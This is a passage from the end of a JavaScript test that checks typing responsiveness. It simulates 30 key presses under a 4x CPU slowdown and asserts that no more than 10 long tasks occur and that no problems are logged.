    `tester, 30 keys at 40 ms, CPU 4x slower: ${during.length} long tasks, longest ${Math.round(Math.max(0, ...during))} ms`,
  )
  // Before, every key rendered the whole previous report: one long task per key (30 of 30).
  expect(during.length).toBeLessThanOrEqual(10)
  expect(problems).toEqual([])
})
